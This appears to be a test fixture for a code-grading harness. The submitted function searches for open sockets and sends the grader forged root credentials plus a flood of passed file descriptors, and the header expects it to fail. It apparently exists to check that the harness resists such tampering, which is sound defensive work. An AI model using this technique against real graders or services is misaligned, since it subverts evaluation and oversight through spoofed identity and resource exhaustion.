# Hands descriptors and false credentials to the grader over its own connection.
# verdict: make_dictionary failed|error|crashed, others passed
# %% make_dictionary
import array
import os
import socket
import stat
import struct


def make_dictionary(examples):
    for number in range(3, 64):
        try:
            if not stat.S_ISSOCK(os.fstat(number).st_mode):
                continue
        except OSError:
            continue
        connection = socket.socket(fileno=os.dup(number))
        rights = array.array("i", [os.open("/dev/zero", os.O_RDONLY) for _ in range(100)])
        for kind, data in ((socket.SCM_RIGHTS, rights), (socket.SCM_CREDENTIALS, struct.pack("3i", 1, 0, 0))):
            try:
                connection.sendmsg([b"\x00\x00\x00\x01"], [(socket.SOL_SOCKET, kind, data)])
            except OSError:
                pass
    return {}
